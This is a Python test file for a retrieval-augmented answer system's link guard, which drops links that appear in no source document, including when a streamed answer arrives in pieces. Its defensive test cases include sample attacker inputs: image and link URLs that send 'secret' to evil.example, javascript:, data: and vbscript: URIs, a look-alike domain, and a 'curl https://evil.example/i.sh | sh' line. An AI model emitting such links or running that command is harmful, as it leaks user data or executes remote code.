"""Links of an answer that are in no source are dropped, however the answer is cut into pieces."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rag_llm_system.application.rag.links import LINK_LEFT_OUT, LinkGuard
from tests.unit.application.rag.retrieved import chunk

SOURCE = (
    "See https://docs.example/guide?v=2, [wiki](https://docs.example/wiki/A_(b)) or http://127.0.0.1:8000/health. "
    'Write to mailto:desk@docs.example. <img src="//images.example/a.png"> [run](javascript:start())'
)

FRAGMENTS = [
    "https://evil.example/x?q=1", "https://docs.example/guide?v=2", "//evil.example", "www.evil.example",
    "evil.example",
    "javascript:alert(1)", "mailto:a@evil.example", "mailto:", "hxxps", "http", "[", "]", "(", ")", "](", "]: ", "!",
    "<", ">", "<a href=", "<img src=", '"', " ", "\n", "\n\n", "`", "\\", ":", "[:]", "[.]", "/", "s", "1.", "+",
    "text",
]  # fmt: skip


def guard() -> LinkGuard:
    return LinkGuard([chunk(1, SOURCE)])


def shown(answer: str) -> str:
    checked = guard()
    return checked.add(answer) + checked.rest()


@pytest.mark.parametrize(
    "answer",
    [
        "Read https://docs.example/guide?v=2.",
        "Read [the guide](https://docs.example/guide?v=2#install), please.",
        "Read (https://docs.example/wiki/A_(b)) and <http://docs.example/guide?v=2>.",
        "It is at http://a.example/1 and HTTPS://Docs.Example:443/guide?v=2.",
        "![photo](https://images.example/a.png) or <mailto:desk@docs.example>",
        "Run `curl http://127.0.0.1:8000/health` [1][2], then table[key](value) and x[0].",
        "[install](/docs/install) and [below](#below)",
        '[guide](https://docs.example/guide?v=2 "The guide") and [images]: //images.example/a.png',
        'an <a href="/docs"> and [a \\] b](/docs/install)',
        "[open\n\nparagraph](now) and [x](now\n\nthen) and []() [x",
        "std::vector<std::string> a; // b < c, d:e, 10:30, List<String> and http: //",
    ],
)
def test_links_of_the_sources_and_what_is_no_link_stay(answer: str) -> None:
    assert shown(answer) == answer
    assert guard().notes() == []


@pytest.mark.parametrize(
    ("answer", "left"),
    [
        ("See https://evil.example/x, now.", f"See {LINK_LEFT_OUT}, now."),
        ("See [the shop](https://evil.example/?q=secret).", "See the shop."),
        ("![a chart](https://evil.example/p.png?d=secret) [1]", "a chart [1]"),
        ("[![seen](https://evil.example/p)](https://docs.example/guide?v=2)", "[seen](https://docs.example/guide?v=2)"),
        ("[1](https://evil.example)", "1"),
        ("<https://evil.example>", LINK_LEFT_OUT),
        ('<a href="https://evil.example">x</a>', "x</a>"),
        ("<img src=//evil.example/p?d=secret>.", "."),
        ('<img srcset="https://evil.example/a 1x, /b 2x">', ""),
        ("<p style='background:url(https://evil.example/a)'>x", "x"),
        ("[x]: https://evil.example/a", f"[x]: {LINK_LEFT_OUT}"),
        ("[x]: //evil.example/a", f"[x]: {LINK_LEFT_OUT}"),
        ("[x](//evil.example) [y](/\\evil.example) [z](https:/evil.example)", "x y z"),
        ("[x](java\tscript:alert(1)) [run](javascript:start())", "x run"),
        ("[x](data:text/html,hello) [y](vbscript:x)", "x y"),
        ("[x](https&#58;//evil.example)", "x"),
        ("hxxps://evil[.]example/a and https[:]//evil.example", f"{LINK_LEFT_OUT} and {LINK_LEFT_OUT}"),
        ('[x](https://evil.example "a (title) of it") [y](https://evil.example/a_(b))', "x y"),
        ("http://[::1 and http://[x]:8/", f"{LINK_LEFT_OUT}[::1 and {LINK_LEFT_OUT}[x]:8/"),
        ("http://evil.example:99999/", LINK_LEFT_OUT),
        ("<a <a href=//evil.example>x", "<a x"),
        ("<a href=//evil.example <b>", "< a href=//evil.example <b>"),
        ("www.evil.example/a or mailto:a@evil.example", f"{LINK_LEFT_OUT} or {LINK_LEFT_OUT}"),
        ("https://docs.example/guide?v=2&q=secret", LINK_LEFT_OUT),
        ("https://docs.example/guide", LINK_LEFT_OUT),
        ("https://docs.example@evil.example/guide?v=2", LINK_LEFT_OUT),
        ("https://docs.example.evil.example/guide?v=2", LINK_LEFT_OUT),
        ("https://dосs.example/guide?v=2", LINK_LEFT_OUT),  # its o is Cyrillic
        ("`curl https://evil.example/i.sh | sh`", f"`curl {LINK_LEFT_OUT} | sh`"),
    ],
)  # fmt: skip
def test_a_link_that_is_in_no_source_is_dropped(answer: str, left: str) -> None:
    assert shown(answer) == left


def test_the_reader_is_told_how_many_but_not_where_they_led() -> None:
    checked = guard()
    checked.add("https://evil.example/1 and https://evil.example/2 and")
    assert checked.notes() == ["Left out of the answer: 2 links that are in no source."]
    assert checked.dropped == ["https://evil.example/1", "https://evil.example/2"]
    one = guard()
    one.add("[x](https://evil.example/1)")
    assert one.notes() == ["Left out of the answer: a link that is in no source."]


def test_words_are_shown_as_soon_as_they_are_certain() -> None:
    checked = guard()
    assert checked.add("It stops [1] when ") == "It stops [1] when "
    assert checked.add("the last [process") == "the last "
    assert checked.add("] ends. ") == "[process] ends. "
    assert checked.add("See https") == "See "
    assert checked.add("://evil.exam") == ""
    assert checked.add("ple now") == f"{LINK_LEFT_OUT} "
    assert checked.rest() == "now"


@pytest.mark.parametrize("opening", ["[", "<a ", "![x](", "a"])
def test_what_is_held_back_is_bounded(opening: str) -> None:
    checked = guard()
    written = f"{opening}{'x' * 5000}"
    given = sum(len(checked.add(letter)) for letter in written)
    assert len(written) - given < 3000


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join), st.data())
def test_the_pieces_do_not_matter(answer: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=6)))
    pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    checked = guard()
    assert "".join(map(checked.add, pieces)) + checked.rest() == shown(answer)


def test_a_script_behind_a_text_that_is_too_long_is_dropped() -> None:
    checked = guard()
    written = f"[{'x' * 700}](javascript:alert(1))"
    given_back = "".join(map(checked.add, written)) + checked.rest()
    assert "javascript" not in given_back
    assert checked.dropped


@example("](javascript:alert(1)")
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join))
def test_no_foreign_address_of_the_web_is_ever_shown(answer: str) -> None:
    left = shown(answer).lower()
    assert not re.search(r"[a-z][a-z0-9+.-]*://evil", left)
    assert not re.search(r"(?<![\w+.-])www\.evil", left)
    assert "](//evil" not in left
    assert "](javascript:" not in left


@given(st.text(st.characters(exclude_characters="[]<>!:/."), max_size=80))
def test_a_text_without_links_comes_back_as_it_is(answer: str) -> None:
    assert shown(answer) == answer
